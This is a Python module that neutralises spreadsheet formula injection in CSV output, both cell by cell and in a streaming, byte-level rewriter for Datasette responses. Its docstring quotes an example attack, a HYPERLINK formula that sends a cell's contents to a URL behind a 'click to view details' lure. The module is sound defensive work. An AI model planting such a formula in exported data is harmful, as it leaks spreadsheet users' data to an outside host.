"""CSV without spreadsheet formulas: a cell that starts with = + - @ (or a tab or carriage return,
which Excel skips before reading one) is a formula to Excel and LibreOffice, so a case title such as
`=HYPERLINK("http://…?leak="&A1,"点击查看详情")` would be a live link. Such a cell gets a leading `'`,
which spreadsheets show as text (OWASP's advice for CSV injection).

A number (-12.5, +86) stays as it is: it is no formula, and a signed number in a table must stay one.
`neutralise` is for cells written here (the csv_bom renderer); `CsvNeutraliser` rewrites Datasette's own
streamed .csv answers byte by byte (the middleware), so no row is ever held whole.
"""
import re

FORMULA_START = "=+-@\t\r"
NUMBER = re.compile(rb"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
SIGNS = frozenset(b"+-")
_STARTS = frozenset(FORMULA_START.encode("ascii"))
QUOTE, COMMA, CR, LF = b'"'[0], b","[0], b"\r"[0], b"\n"[0]


def neutralise(cell):
    """A text cell that Excel would read as a formula, with a leading '; numbers and None unchanged."""
    if isinstance(cell, str) and cell[:1] and cell[0] in FORMULA_START \
            and not NUMBER.fullmatch(cell.encode("utf-8")):
        return "'" + cell
    return cell


class CsvNeutraliser:
    """An RFC 4180 reader that writes back what it reads, with ' before each field's first character
    when that starts a formula. Only ASCII bytes matter (, " CR LF), and UTF-8 never uses them inside
    a multi-byte character, so any chunking of the bytes is fine. An unquoted field starting with a
    sign is held until it ends, to tell a number from a formula."""

    def __init__(self):
        self.state = "start"  # "start" of a field, "quoted_start", "quoted", "quote" (a " in quotes), "plain"
        self.signed: bytearray | None = None  # the unquoted field being held

    def feed(self, chunk: bytes) -> bytes:
        out = bytearray()
        for byte in chunk:
            state = self.state
            if self.signed is not None:
                if byte in (COMMA, CR, LF):
                    out += self._release()
                    self.state = "start"
                    out.append(byte)
                else:
                    self.signed.append(byte)
                continue
            if state == "start":
                if byte == QUOTE:
                    self.state = "quoted_start"
                elif byte in SIGNS:
                    self.signed, self.state = bytearray([byte]), "plain"
                    continue
                elif byte not in (COMMA, CR, LF):  # else an empty field or a row end; the next field starts
                    if byte in _STARTS:
                        out.append(ord("'"))
                    self.state = "plain"
            elif state == "quoted_start":
                if byte in _STARTS:
                    out.append(ord("'"))
                self.state = "quote" if byte == QUOTE else "quoted"
            elif state == "quoted":
                if byte == QUOTE:
                    self.state = "quote"
            elif state == "quote":
                self.state = "quoted" if byte == QUOTE else ("start" if byte in (COMMA, CR, LF) else "plain")
            elif byte in (COMMA, CR, LF):  # plain
                self.state = "start"
            out.append(byte)
        return bytes(out)

    def close(self) -> bytes:
        """What is still held at the end of the stream."""
        return self._release() if self.signed is not None else b""

    def _release(self) -> bytes:
        field, self.signed = bytes(self.signed), None
        return field if NUMBER.fullmatch(field) else b"'" + field
